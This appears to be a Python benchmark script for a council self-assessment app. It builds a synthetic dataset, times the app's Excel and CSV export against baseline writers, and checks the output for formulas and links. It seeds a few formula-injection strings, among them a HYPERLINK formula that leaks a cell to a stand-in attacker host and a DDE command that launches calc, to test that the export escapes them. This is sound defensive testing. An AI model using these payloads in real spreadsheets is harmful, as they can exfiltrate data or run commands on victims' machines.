"""Benchmark: the cycle workbook of a very large council against our own writer writing its Responses cells.

    python benchmarks/export.py [--databases sqlite postgresql] [--answers 50000 500000] [--repeat 3] [--no-csv]
    python benchmarks/export.py --answers 100000 --profile [phases cprofile tracemalloc]   # no comparison

For each database and each `--answers` size (50,000 and 500,000 by default), it builds
(not timed) a synthetic council whose one open cycle stores about that many answers:
departments (1,437 for 500,000 answers) answering a 400-question departmental
self-assessment (the question shapes of benchmarks/questionnaire.py, repeated under
new ids in ten themed sections, with matters, statutory items and a few conditional
questions), so that the answers are choices, numbers, percentages, lists of choices
and text, evidence on a share of them and a few hostile texts that start with "=",
"+", "-" or "@". The hallmark checklist (part answered), the peer questionnaire
(the demo's peers, through their invitation links), the demo's crime figures, about
one improvement action per department with notes, and the cycle's audit events make
every sheet of the workbook have rows. (Its free texts come from a few sentences, so
they repeat more than a real council's would.)

One export is written first, not timed, and its Responses sheet read back (openpyxl,
read-only) and pickled in chunks of rows: those are the floor's cells. Then, each in
a fresh Python process so that its peak memory (ru_maxrss) is its own, taking turns
(idle app, export, floor, stock, CSV, idle app, export, ...), `--repeat` times:

1. our export: app.export_jobs.services.write_export(ExportRequest(cycle, None, XLSX), path)
   in an app context: every sheet, streamed from the database, to a file;
2. the floor: the export's own writer, the fastest it has (app.exports.sheets.new_workbook,
   whose worksheets' write_string_at, write_number_at and write_datetime_at the export's
   tables call), writing only the cells of the Responses sheet: the same values in the same
   order and columns, strings as strings, numbers as numbers, date-times with one date
   format, nothing else. The cells are loaded from the pickle first, timed apart and
   printed on their own line: the floor's time is the writing and closing of the workbook;
3. for information, stock xlsxwriter (constant_memory) writing the same cells the same
   way, with its public write_string, write_number and write_datetime, loaded the same way; and
4. for information, our Responses CSV: write_export(ExportRequest(cycle, None, CSV), path)
   (--no-csv to leave it out);

and, before each turn, an idle process that has imported and created the app and done
nothing else. It prints the load average before and after, each run's median time and
peak memory with their spread (lowest-highest, interquartile range, number of turns),
each time's ratio to the floor's, how much slower stock xlsxwriter is than our writer,
the memory the export needs above the idle app, the workbook's size and every sheet's
rows, columns and cells (read back with openpyxl), and checks that no cell is a formula
or a link. The floor writes only the Responses cells; the export also writes Gaps,
Matrix and the small sheets (about 1.3x the floor's cells) and reads and scores the answers.

It ends with one line per goal, for each database and size: the export takes at most
1.3x the floor's time (medians), and, at 500,000 answers, the export's peak memory (the
worst turn) is less than 100 MB above the idle app's (median).

With --profile it builds the same council and, instead of the comparison, runs one
export with its phases timed (cycle_export, the answers pass that writes Responses and
Gaps, Summary, Matrix, closing the workbook) and the process's memory after each, one
under cProfile (top functions by cumulative and by own time), and one under tracemalloc
(what the Python heap holds when the answers pass ends, largest first).

SQLite by default; PostgreSQL through a fresh database on 127.0.0.1:5432
(TEST_POSTGRES_URL to use another server), one per size, dropped afterwards.
"""

from __future__ import annotations

import argparse
import csv
import math
import multiprocessing
import os
import pickle
import random
import resource
import shutil
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from copy import deepcopy
from datetime import UTC, date, datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from benchmarks.common import Spread, load_average, print_load, verdict  # noqa: E402
from benchmarks.questionnaire import PASSWORD, database_urls, sixty_question_definition  # noqa: E402

QUESTIONS = 400
THEMES = ("functions", "awareness", "leadership", "planning", "decisions", "training", "data", "partnership",
          "practice", "impact")
MATTERS = ("crime-and-disorder", "substance-misuse", "reoffending", "serious-violence")
DEFINITION_ID = "bench-departmental"
COPIED_SURVEYS = ("hallmarks-of-effective-partnership", "peer-benchmarking")
TIME_GOAL = 1.3  # x the floor's time
MEMORY_GOAL_MB = 100  # above the idle app's peak
MEMORY_GOAL_ANSWERS = 500_000  # the memory goal is judged from this size up
CHUNK_ROWS = 10_000  # rows per pickled chunk of the floor's cells
INSERT_BATCH = 20_000
# The share of a return's questions that hold a stored answer, as generated below (some are hidden by an
# earlier answer, returns in progress leave some out, a few have not started): departments are counted so
# that the cycle stores about --answers answers.
STORED_SHARE = 0.87
PROFILE_MODES = ("phases", "cprofile", "tracemalloc")
RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

EVIDENCE = (
    "Minutes of the service management team, where this was agreed and is reviewed each quarter.",
    "The service plan, section 4, names the duty and the partnership's priorities.",
    "Risk register entry CD-12, reviewed by the head of service in the last six months.",
    "Training records held by HR: attendance at the community safety briefing for all managers.",
    "Joint tasking minutes with the police neighbourhood team; actions tracked on the partnership log.",
    "See the equality and community safety impact assessment attached to the cabinet report of March, which sets "
    "out the effects on anti-social behaviour, the mitigations agreed with the police and the follow-up review.",
)
LONG_TEXTS = (
    "We work with the community safety team on this.",
    "The department reviews this each year with the partnership analyst and reports to the scrutiny committee.",
    "Not yet: it is on the plan for next year, with the head of service as the owner.",
    "Our licensing officers share intelligence with the police weekly, and joint visits are planned monthly in the "
    "town centre; enforcement outcomes are reported to the partnership's problem-solving group.",
)
ACTIONS = ("Add the duty to the next service plan.", "Brief the management team in the autumn.",
           "Ask the partnership analyst for ward-level data.")
# Text that a spreadsheet would run or follow if it were not kept as text.
HOSTILE = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
           "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1,2)")


# --------------------------------------------------------------------------- the questionnaire


def departmental_definition(questions: int = QUESTIONS) -> dict:
    """The sixty shapes repeated under new ids, in ten themed sections, with matters and a few conditions."""
    shapes = sixty_question_definition()["sections"][0]["questions"]
    per_section = math.ceil(questions / len(THEMES))
    sections: list[dict] = []
    for n in range(questions):
        theme = THEMES[n // per_section]
        if not sections or sections[-1]["id"] != theme:
            sections.append({"id": theme, "title": f"{theme.title()} and the duty", "tags": {"theme": theme},
                             "questions": []})
        question = deepcopy(shapes[n % len(shapes)])
        question["id"] = f"{theme}-{n + 1:03d}"
        question["text"] = f"Question {n + 1}: how does your department handle point {n + 1} of {theme}?"
        matters = [MATTERS[n % 4]] + ([MATTERS[(n + 1) % 4]] if n % 5 == 0 else [])
        question["tags"] = {"matter": matters if len(matters) > 1 else matters[0], "statutory": n % 7 == 0}
        if question["type"] in ("scale", "percentage", "number"):
            question["evidence"] = "optional"
        section_questions = sections[-1]["questions"]
        previous = section_questions[-1] if section_questions else None
        if previous is not None and previous["type"] == "yes_no" and "show_if" not in previous and n % 12 == 0:
            question["show_if"] = {"question": previous["id"], "equals": "yes"}
        section_questions.append(question)
    return {"id": DEFINITION_ID, "version": 1, "title": "Benchmark self-assessment (400 questions)",
            "kind": "departmental", "sections": sections}


def write_surveys(surveys: Path) -> None:
    surveys.mkdir(parents=True, exist_ok=True)
    (surveys / f"{DEFINITION_ID}.yaml").write_text(yaml.safe_dump(departmental_definition(), sort_keys=False))
    for name in COPIED_SURVEYS:
        shutil.copy(ROOT / "surveys" / f"{name}.yaml", surveys / f"{name}.yaml")


def answer_value(question: dict, rng: random.Random) -> tuple[Any, bool]:
    """A stored value and whether it is "not applicable", for one of the sixty shapes."""
    kind = question["type"]
    if kind == "yes_no":
        return rng.choice(["yes", "yes", "no"]), False
    if kind == "scale":
        return rng.choice(["none", "some", "full", "full"]), False
    if kind == "number":
        return rng.choice([0, 3, 12, 250]), False
    if kind == "multiple_choice":
        return rng.sample(["crime", "substances", "reoffending", "violence"], rng.randint(1, 4)), False
    if kind == "long_text":
        return (rng.choice(HOSTILE) if rng.random() < 0.002 else rng.choice(LONG_TEXTS)), False
    if rng.random() < 0.05:
        return None, True  # a percentage that does not apply
    return float(rng.choice([20, 45, 60, 80, 100])), False


# --------------------------------------------------------------------------- building the council


def department_count(answers: int) -> int:
    return max(1, math.ceil(answers / (QUESTIONS * STORED_SHARE)))


def _peer_names() -> list[str]:
    text = resources.files("app.demo").joinpath("data/peer_approaches.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(text.splitlines()))


def build(url: str, surveys: Path, answers: int, seed: int = 17) -> dict[str, int]:
    """The synthetic council; returns the cycle's id and what was stored."""
    from flask_migrate import upgrade

    from app import create_app
    from app.cycles.services import CycleDetails, QuestionnaireChoice, create_cycle, open_cycle
    from app.demo.answers import partnership_answers, store_answers
    from app.demo.crime import load_demo_crime_statistics
    from app.demo.peers import create_demo_invitations, reported_approaches
    from app.demo.services import FAMILY_GROUP, OWN_PARTNERSHIP
    from app.extensions import db
    from app.models import (
        Action,
        ActionNote,
        Answer,
        Assignment,
        AuditEvent,
        Department,
        PeerPartnership,
        Role,
        User,
    )
    from app.organisation.services import update_organisation
    from app.questionnaires.registry import definition_from_snapshot
    from app.security.passwords import hash_password

    app = create_app({"ENV": "test", "SQLALCHEMY_DATABASE_URI": url, "SURVEYS_DIR": str(surveys)})
    rng = random.Random(seed)
    departments = department_count(answers)
    questions = [q for s in departmental_definition()["sections"] for q in s["questions"]]
    today = date.today()
    now = datetime.now(UTC).replace(microsecond=0)
    opened = now - timedelta(days=40)
    with app.app_context():
        upgrade()
        update_organisation("Benchmark District Council", "Benchmark Community Safety Partnership")
        password_hash = hash_password(PASSWORD)
        officer = User(name="Bench Officer", email="cso@bench.example", password_hash=password_hash,
                       role=Role.COMMUNITY_SAFETY_OFFICER.value)
        db.session.add(officer)
        made = []
        for n in range(1, departments + 1):
            # One department's name is hostile too: it heads a Matrix column and fills Responses cells.
            name = "=Department of formulas" if n == 7 else f"Department {n:04d}"
            department = Department(code=f"D{n:04d}", name=name, description="", active=True)
            made.append(department)
            db.session.add(User(name=f"Lead Officer {n:04d}", email=f"lead{n:04d}@bench.example",
                                password_hash=password_hash, role=Role.LEAD_OFFICER.value, departments=[department]))
        db.session.add_all(made)
        db.session.commit()
        lead_of = {d.id: d.lead_officers[0].id for d in made}
        email_of = {d.lead_officers[0].id: d.lead_officers[0].email for d in made}

        peers: dict[str, PeerPartnership] = {}
        for row in _peer_names():
            if row["partnership"] not in peers:
                peers[row["partnership"]] = PeerPartnership(
                    name=row["partnership"], area=row["county"], family_group=FAMILY_GROUP,
                    is_own=row["partnership"] == OWN_PARTNERSHIP)
        db.session.add_all(peers.values())
        db.session.commit()
        load_demo_crime_statistics()
        peers = {p.name: p for p in db.session.scalars(db.select(PeerPartnership))}

        cycle = create_cycle(officer, CycleDetails(
            "Benchmark cycle 2026 to 2027", date(2026, 4, 1), date(2027, 3, 31), today + timedelta(days=30),
            (QuestionnaireChoice(DEFINITION_ID), *(QuestionnaireChoice(name) for name in COPIED_SURVEYS))))
        open_cycle(officer, cycle, today)
        cycle.opened_at = opened
        statuses = ["submitted"] * 10 + ["accepted"] * 5 + ["returned"] * 2 + ["in_progress"] * 3 + ["not_started"]
        rows: list[dict[str, Any]] = []
        events: list[dict[str, Any]] = []
        stored = 0

        def flush_answers() -> None:
            nonlocal stored
            if rows:
                db.session.execute(db.insert(Answer), rows)
                stored += len(rows)
                rows.clear()

        assignments = list(db.session.scalars(db.select(Assignment).where(Assignment.cycle_id == cycle.id)
                                              .order_by(Assignment.id)))
        for assignment in assignments:
            if assignment.respondent_type == "partnership":
                checklist = definition_from_snapshot(assignment.snapshot)
                store_answers(assignment, partnership_answers(checklist, year=cycle.period_start.year), officer,
                              opened + timedelta(days=6))
                assignment.status, assignment.started_at = "in_progress", opened + timedelta(days=2)
                continue
            status = rng.choice(statuses)
            lead = lead_of[assignment.department_id]
            assignment.status = status
            if status == "not_started":
                continue
            started = opened + timedelta(days=rng.randint(0, 10), minutes=rng.randint(0, 600))
            assignment.started_at = started
            events.append({"occurred_at": started, "actor_id": lead, "actor_email": email_of[lead],
                           "action": "assignment.started", "object_type": "assignment",
                           "object_id": str(assignment.id), "summary": "Started the return",
                           "before": {"status": "not_started"}, "after": {"status": "in_progress"}})
            if status != "in_progress":
                submitted = started + timedelta(days=rng.randint(1, 20))
                assignment.submitted_at, assignment.submission_count = submitted, 1
                events.append({"occurred_at": submitted, "actor_id": lead, "actor_email": email_of[lead],
                               "action": "assignment.submitted", "object_type": "assignment",
                               "object_id": str(assignment.id), "summary": "Submitted the return",
                               "before": {"status": "in_progress"}, "after": {"status": "submitted", "submission": 1}})
                if status in ("accepted", "returned"):
                    assignment.reviewed_at = submitted + timedelta(days=2)
                    events.append({"occurred_at": assignment.reviewed_at, "actor_id": None,
                                   "actor_email": "cso@bench.example", "action": f"assignment.{status}",
                                   "object_type": "assignment", "object_id": str(assignment.id),
                                   "summary": ("Returned for changes: please add the evidence for section 3"
                                               if status == "returned" else "Accepted the return"),
                                   "before": {"status": "submitted"}, "after": {"status": status}})
            skip = 0.3 if status == "in_progress" else 0.02
            given: dict[str, Any] = {}
            for question in questions:
                condition = question.get("show_if")
                if condition is not None and given.get(condition["question"]) != condition["equals"]:
                    continue  # not asked: cleared when the return is submitted
                if rng.random() < skip:
                    continue
                value, not_applicable = answer_value(question, rng)
                given[question["id"]] = value
                evidence = ""
                box = question.get("evidence")
                if (isinstance(box, dict) and value == "yes") or (box == "optional" and rng.random() < 0.4):
                    evidence = rng.choice(HOSTILE) if rng.random() < 0.001 else rng.choice(EVIDENCE)
                rows.append({"assignment_id": assignment.id, "question_id": question["id"], "value": value,
                             "not_applicable": not_applicable, "evidence": evidence,
                             "action": rng.choice(ACTIONS) if rng.random() < 0.05 else "",
                             "changed_in_version": 1, "updated_by_id": lead,
                             "updated_at": started + timedelta(minutes=rng.randint(0, 20000))})
                if len(rows) >= INSERT_BATCH:
                    flush_answers()
        flush_answers()
        db.session.commit()
        create_demo_invitations(cycle, reported_approaches(_peer_names()), peers, officer, opened, today)

        # About one improvement action per department, most with notes, each with its audit events.
        gap_questions = [q for q in questions if q["type"] in ("yes_no", "scale", "number")]
        action_rows = []
        for department in made:
            if rng.random() < 0.2:
                continue
            question = rng.choice(gap_questions)
            status = rng.choice(["not_started", "in_progress", "in_progress", "done", "dropped"])
            raised = opened + timedelta(days=rng.randint(15, 35))
            action_rows.append({
                "cycle_id": cycle.id, "department_id": department.id, "definition_id": DEFINITION_ID,
                "question_id": question["id"], "gap_text": question["text"],
                "title": "=Fix this now" if department.code == "D0003" else f"Close the gap on {question['id']}",
                "done_looks_like": "The service plan names the duty and the head of service reports on it.",
                "owner_id": lead_of[department.id], "due_date": today + timedelta(days=rng.randint(-30, 120)),
                "status": status, "dropped_reason": "Covered by the corporate plan" if status == "dropped" else "",
                "created_by_id": officer.id, "created_at": raised, "updated_at": raised + timedelta(days=3),
                "version": 1})
        db.session.execute(db.insert(Action), action_rows)
        db.session.commit()
        notes = []
        for action in db.session.execute(db.select(Action.id, Action.status, Action.created_at, Action.owner_id,
                                                   Action.title).where(Action.cycle_id == cycle.id)):
            events.append({"occurred_at": action.created_at, "actor_id": officer.id, "actor_email": officer.email,
                           "action": "action.created", "object_type": "action", "object_id": str(action.id),
                           "summary": f"Raised the action ‘{action.title}’",
                           "before": None, "after": {"title": action.title, "status": "not_started"}})
            for day in range(rng.randint(0, 3) if action.status != "not_started" else 0):
                written = action.created_at + timedelta(days=2 * day + 1)
                notes.append({"action_id": action.id, "written_at": written, "author_id": action.owner_id,
                              "text": "Progress: drafted and shared with the management team.",
                              "status": action.status})
                events.append({"occurred_at": written, "actor_id": action.owner_id, "actor_email": None,
                               "action": "action.updated", "object_type": "action", "object_id": str(action.id),
                               "summary": "=SUM(1,2) added a note" if action.id == 5 else "Added a progress note",
                               "before": {"status": "in_progress"}, "after": {"status": action.status}})
        if notes:
            db.session.execute(db.insert(ActionNote), notes)
        for start in range(0, len(events), INSERT_BATCH):
            db.session.execute(db.insert(AuditEvent), events[start:start + INSERT_BATCH])
        db.session.commit()
        counts = {
            "cycle_id": cycle.id, "departments": departments, "departmental_answers": stored,
            "answers": db.session.scalar(db.select(db.func.count()).select_from(Answer)),
            "returns": db.session.scalar(db.select(db.func.count()).select_from(Assignment)),
            "actions": len(action_rows), "notes": len(notes),
            "audit_events": db.session.scalar(db.select(db.func.count()).select_from(AuditEvent)),
        }
        db.engine.dispose()
        return counts


# --------------------------------------------------------------------------- measured in fresh processes


def peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # Linux: kilobytes


def current_mb() -> float:
    try:
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
    except OSError:
        return peak_mb()


def _app(url: str, surveys: Path):
    from app import create_app

    return create_app({"ENV": "test", "SQLALCHEMY_DATABASE_URI": url, "SURVEYS_DIR": str(surveys)})


def idle_app(url: str, surveys: Path) -> float:
    """Peak memory of a process that has imported and created the app, and done nothing else.

    What an export's memory is measured against: the app itself is not what an export costs.
    """
    import app.export_jobs.services  # noqa: F401  (everything an export imports)

    _app(url, surveys)
    return peak_mb()


def run_export(url: str, surveys: Path, cycle_id: int, path: str, kind: str) -> dict[str, float]:
    """One export, timed from the call to its return, to a file."""
    from app.export_jobs.services import CSV, XLSX, ExportRequest, write_export
    from app.extensions import db
    from app.models import Cycle

    app = _app(url, surveys)
    with app.app_context():
        cycle = db.session.get(Cycle, cycle_id)
        before = peak_mb()
        started = time.perf_counter()
        write_export(ExportRequest(cycle, None, XLSX if kind == "xlsx" else CSV), path, actor=None,
                     generated_by="benchmark", how="benchmark")
        seconds = time.perf_counter() - started
        db.engine.dispose()
    return {"seconds": seconds, "peak_mb": peak_mb(), "before_mb": before, "bytes": os.path.getsize(path)}


def _chunks(path: str) -> Iterator[list[tuple[Any, ...]]]:
    with open(path, "rb") as source:
        while True:
            try:
                yield pickle.load(source)
            except EOFError:
                return


def load_cells(path: str) -> list[tuple[Any, ...]]:
    """Every row of the Responses sheet, header first, from the pickle chunks (the floor's input)."""
    rows: list[tuple[Any, ...]] = []
    for chunk in _chunks(path):
        rows.extend(chunk)
    return rows


def run_floor(cells: str, path: str, writer: str) -> dict[str, float]:
    """The Responses cells written alone, already in memory: `writer` "product" (the floor) or "stock".

    product: the export's own writer, the fastest it has: new_workbook (ExportWorkbook,
    whose EscapeOnceWorksheet escapes each distinct text once, with the export's workbook
    options) and the sheet's write_string_at, write_number_at and write_datetime_at, which
    skip xlsxwriter's cell-reference decorator. stock: xlsxwriter's own Workbook in
    constant_memory mode and its public write_string, write_number and write_datetime.
    Either way each cell is written by its type (one date-time format, no other format),
    so this is the least that writing those cells can cost. Reading the cells from the
    pickle is done first and timed apart (`loading_seconds`); `seconds` is the writing alone.
    """
    from xlsxwriter.workbook import Workbook

    from app.exports.sheets import DATETIME_FORMAT, new_workbook

    started = time.perf_counter()
    rows = load_cells(cells)
    loading = time.perf_counter() - started
    before = peak_mb()
    started = time.perf_counter()
    workbook = new_workbook(path) if writer == "product" else Workbook(path, {"constant_memory": True})
    sheet = workbook.add_worksheet("Responses")
    moment = workbook.add_format({"num_format": DATETIME_FORMAT})
    if writer == "product":
        write_string, write_number, write_datetime = sheet.write_string_at, sheet.write_number_at, \
            sheet.write_datetime_at
    else:
        write_string, write_number, write_datetime = sheet.write_string, sheet.write_number, sheet.write_datetime
    for row, values in enumerate(rows):
        for col, value in enumerate(values):
            if value is None:
                continue
            kind = type(value)
            if kind is str:
                write_string(row, col, value, None)
            elif kind is datetime:
                write_datetime(row, col, value, moment)
            else:
                write_number(row, col, value, None)
    workbook.close()
    seconds = time.perf_counter() - started
    return {"seconds": seconds, "peak_mb": peak_mb(), "before_mb": before, "bytes": os.path.getsize(path),
            "loading_seconds": loading, "rows": len(rows)}


def count_in_stream(stream: Any, found: dict[bytes, int]) -> None:
    """Add to `found` how often each of its byte strings occurs in a stream, read a megabyte at a time."""
    tails = dict.fromkeys(found, b"")
    while block := stream.read(1 << 20):
        for pattern in found:
            text = tails[pattern] + block  # the tail is shorter than the pattern: nothing is counted twice
            found[pattern] += text.count(pattern)
            tails[pattern] = text[-(len(pattern) - 1):]


def read_back(workbook_path: str, cells: str) -> dict[str, Any]:
    """Every sheet's row count, the Responses cells pickled in chunks for the floor, and a safety check.

    Equal texts are made one object before pickling (openpyxl makes a new one per cell),
    so that the floor's cells, all loaded at once, take a few hundred MB rather than a few GB.
    """
    from openpyxl import load_workbook

    workbook = load_workbook(workbook_path, read_only=True)
    sheets: dict[str, tuple[int, int, int]] = {}  # rows, columns, cells with something in them
    risky_text = 0
    texts: dict[str, str] = {}
    with open(cells, "wb") as out:
        for sheet in workbook.worksheets:
            rows = columns = filled = 0
            chunk: list[tuple[Any, ...]] = []
            responses = sheet.title == "Responses"
            for values in sheet.iter_rows(values_only=True):
                rows += 1
                columns = max(columns, len(values))
                filled += sum(1 for v in values if v is not None)
                if responses:
                    risky_text += sum(1 for v in values if isinstance(v, str) and v.startswith(RISKY_STARTS))
                    chunk.append(tuple(texts.setdefault(v, v) if type(v) is str else v for v in values))
                    if len(chunk) == CHUNK_ROWS:
                        pickle.dump(chunk, out, protocol=pickle.HIGHEST_PROTOCOL)
                        chunk = []
            if chunk:
                pickle.dump(chunk, out, protocol=pickle.HIGHEST_PROTOCOL)
            sheets[sheet.title] = (rows, columns, filled)
    workbook.close()
    found = {b"<f>": 0, b"<f ": 0, b"<hyperlink ": 0}
    with zipfile.ZipFile(workbook_path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                with archive.open(name) as part:
                    count_in_stream(part, found)
    formulas, links = found[b"<f>"] + found[b"<f "], found[b"<hyperlink "]
    return {"sheets": sheets, "risky_text": risky_text, "formulas": formulas, "links": links}


def in_fresh_process(function: Callable[..., Any], *args: Any) -> Any:
    """Run in a new Python process (spawned, not forked): its peak memory is its own."""
    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context("spawn")) as pool:
        return pool.submit(function, *args).result()


# --------------------------------------------------------------------------- where the time and memory go


def profile_export(url: str, surveys: Path, cycle_id: int, path: str, mode: str, top: int) -> str:
    """One export: its phases timed (mode "phases"), under cProfile ("cprofile") or tracemalloc ("tracemalloc")."""
    import cProfile
    import io
    import pstats
    import tracemalloc

    from xlsxwriter.workbook import Workbook

    import app.export_jobs.services as services
    import app.exports.sheets as sheets
    import app.exports.workbook as book
    from app.export_jobs.services import XLSX, ExportRequest, write_export
    from app.extensions import db
    from app.models import Cycle

    app = _app(url, surveys)
    lines: list[str] = []
    marks: list[tuple[str, float, float, float]] = []  # phase, seconds, current MB, peak MB
    snapshot: list[Any] = []

    def timed(label: str, function: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: Any, **kwargs: Any) -> Any:
            started = time.perf_counter()
            result = function(*args, **kwargs)
            if label == "answers pass (Responses, Gaps)" and mode == "tracemalloc":
                snapshot.append(tracemalloc.take_snapshot())
            marks.append((label, time.perf_counter() - started, current_mb(), peak_mb()))
            return result
        return wrapper

    by_sheet: dict[str, list[float]] = {}  # sheet -> [seconds in Table.write_row, rows]
    if mode == "phases":
        write_row = sheets.Table.write_row

        def counted_write_row(table: Any, values: Any, *, header: bool = False) -> None:
            started = time.perf_counter()
            write_row(table, values, header=header)
            spent = by_sheet.setdefault(table.sheet.name, [0.0, 0])
            spent[0] += time.perf_counter() - started
            spent[1] += 1
        sheets.Table.write_row = counted_write_row
    if mode in ("phases", "tracemalloc"):
        services.cycle_export = timed("cycle_export (queries, definitions, small sheets' data)",
                                      services.cycle_export)
        book.write_answers = timed("answers pass (Responses, Gaps)", book.write_answers)
        book.write_summary = timed("Summary", book.write_summary)
        book.write_matrix = timed("Matrix", book.write_matrix)
        Workbook.close = timed("Workbook.close (assembling and zipping the files)", Workbook.close)
    with app.app_context():
        cycle = db.session.get(Cycle, cycle_id)
        request = ExportRequest(cycle, None, XLSX)
        profiler = cProfile.Profile() if mode == "cprofile" else None
        if mode == "tracemalloc":
            tracemalloc.start(8)
        started_mb = current_mb()
        started = time.perf_counter()
        if profiler is not None:
            profiler.enable()
        write_export(request, path, actor=None, generated_by="benchmark", how="benchmark")
        if profiler is not None:
            profiler.disable()
        total = time.perf_counter() - started
        db.engine.dispose()
    if mode == "phases":
        lines.append(f"  phases of one export ({total:.1f} s in all; memory {started_mb:.0f} MB before it):")
        lines.append(f"    {'phase':58} {'seconds':>8} {'share':>6} {'MB now':>7} {'MB peak':>8}")
        for label, seconds, now_mb, peak in marks:
            lines.append(f"    {label:58} {seconds:8.1f} {seconds / total:6.0%} {now_mb:7.0f} {peak:8.0f}")
        rest = total - sum(m[1] for m in marks)
        lines.append(f"    {'the rest (About, Hallmarks, peers, crime, Actions, Audit log)':58} {rest:8.1f} "
                     f"{rest / total:6.0%}")
        lines.append("  time inside Table.write_row (formatting and writing the cells), by sheet:")
        for name, (seconds, rows) in sorted(by_sheet.items(), key=lambda item: -item[1][0]):
            lines.append(f"    {name:20} {rows:>9,} rows {seconds:8.1f} s {seconds / total:6.0%} of the export")
    elif mode == "cprofile":
        for order in ("cumulative", "tottime"):
            out = io.StringIO()
            pstats.Stats(profiler, stream=out).strip_dirs().sort_stats(order).print_stats(top)
            body = out.getvalue()
            body = body[body.find("   ncalls"):] if "   ncalls" in body else body
            lines.append(f"  cProfile, top {top} by {order} time ({total:.1f} s under the profiler):")
            lines.extend("    " + line for line in body.rstrip().splitlines())
    else:
        current, peak = tracemalloc.get_traced_memory()
        lines.append(f"  tracemalloc: Python heap peak {peak / 2**20:.0f} MB during the export "
                     f"({current / 2**20:.0f} MB at its end); held when the answers pass ended, largest first:")
        if snapshot:
            for stat in snapshot[0].statistics("lineno")[:top]:
                frame = stat.traceback[0]
                where = f"{Path(frame.filename).parent.name}/{Path(frame.filename).name}:{frame.lineno}"
                lines.append(f"    {stat.size / 2**20:7.1f} MB {stat.count:>9,} blocks  {where}")
        tracemalloc.stop()
    return "\n".join(lines)


# --------------------------------------------------------------------------- run


RUNS = {  # what is compared, in the order of each turn
    "export": "our export (workbook, all sheets)",
    "floor": "floor: our writer, Responses cells only",
    "stock": "stock xlsxwriter, the same cells (info)",
    "csv": "our Responses CSV (information)",
}


def _one_run(name: str, url: str, surveys: Path, cycle_id: int, paths: dict[str, str]) -> dict[str, float]:
    if name == "export":
        return in_fresh_process(run_export, url, surveys, cycle_id, paths["export"], "xlsx")
    if name == "csv":
        return in_fresh_process(run_export, url, surveys, cycle_id, paths["csv"], "csv")
    return in_fresh_process(run_floor, paths["cells"], paths[name], "product" if name == "floor" else "stock")


def measure(label: str, url: str, surveys: Path, work: Path, answers: int, args: argparse.Namespace) -> list[str]:
    """Build one council, compare the export with the floor on it; return its closing verdict lines."""
    print_load(f"before {label}, {answers:,} answers")
    departments = department_count(answers)
    print(f"\n{label}, about {answers:,} answers: building {departments:,} departments x {QUESTIONS} questions, "
          "the hallmark checklist, peers, crime figures, actions and audit events ...", flush=True)
    started = time.perf_counter()
    built = in_fresh_process(build, url, surveys, answers)
    print(f"  built in {time.perf_counter() - started:.0f} s: {built['returns']:,} returns, {built['answers']:,} "
          f"stored answers ({built['departmental_answers']:,} departmental), {built['actions']:,} actions with "
          f"{built['notes']:,} notes, {built['audit_events']:,} audit events", flush=True)
    cycle_id = built["cycle_id"]
    paths = {"export": str(work / "export.xlsx"), "floor": str(work / "floor.xlsx"),
             "stock": str(work / "stock.xlsx"), "csv": str(work / "export.csv"),
             "cells": str(work / "responses-cells.pickle")}

    if args.profile is not None:
        for mode in args.profile or PROFILE_MODES:
            print(in_fresh_process(profile_export, url, surveys, cycle_id, paths["export"], mode, args.top),
                  flush=True)
        print_load(f"after {label}, {answers:,} answers")
        return []

    started = time.perf_counter()
    in_fresh_process(run_export, url, surveys, cycle_id, paths["export"], "xlsx")  # not timed: the floor's cells
    checked = in_fresh_process(read_back, paths["export"], paths["cells"])
    print(f"  first export and reading it back for the floor's cells (not timed): "
          f"{time.perf_counter() - started:.0f} s", flush=True)

    names = [name for name in RUNS if not (name == "csv" and args.no_csv)]
    runs: dict[str, list[dict[str, float]]] = {name: [] for name in names}
    idle: list[float] = []
    for turn in range(args.repeat):
        idle.append(in_fresh_process(idle_app, url, surveys))
        for name in names:
            runs[name].append(_one_run(name, url, surveys, cycle_id, paths))
        print(f"  turn {turn + 1}: " + ", ".join(f"{name} {found[-1]['seconds']:.1f} s"
                                                for name, found in runs.items()) + f"; {load_average()}", flush=True)

    def spread(name: str, key: str) -> Spread:
        return Spread(tuple(r[key] for r in runs[name]))

    seconds = {name: spread(name, "seconds") for name in names}
    peaks = {name: spread(name, "peak_mb") for name in names}
    idle_mb = Spread(tuple(idle))
    floor = seconds["floor"].median
    rows, columns, _filled = checked["sheets"]["Responses"]
    print(f"\n  {built['answers']:,} stored answers; the Responses sheet: {rows - 1:,} rows (return x question) "
          f"x {columns} columns; {args.repeat} turns, each run in a fresh process; seconds and peak memory "
          "(ru_maxrss) as median (lowest-highest, IQR, n)")
    for name in names:
        print(f"  {RUNS[name]:42} {seconds[name].text('s', 2):>40} {seconds[name].median / floor:6.2f}x floor "
              f"  peak {peaks[name].text('MB', 0)}  file {runs[name][-1]['bytes'] / 2**20:.1f} MB")
    loading = Spread(tuple(r["loading_seconds"] for r in runs["floor"] + runs["stock"]))
    print(f"  reading the cells from the pickle, before the floor's and the stock writer's timing (not in them): "
          f"{loading.text('s', 2)}")
    print(f"  idle process, app imported and created: {idle_mb.text('MB', 0)}. The floor's and stock writer's "
          "peaks include every cell, held in memory before they start.")
    stock_ratio = seconds["floor"].median / seconds["stock"].median
    print(f"  our writer takes {stock_ratio:.2f}x stock xlsxwriter's time for the same cells")
    if runs["floor"][-1]["rows"] != rows:
        print(f"  WARNING: the floor wrote {runs['floor'][-1]['rows']:,} rows, the Responses sheet has {rows:,}")

    print(f"\n  The workbook: {runs['export'][-1]['bytes'] / 2**20:.1f} MB; sheets (rows including the header x "
          "columns, cells with something in them): "
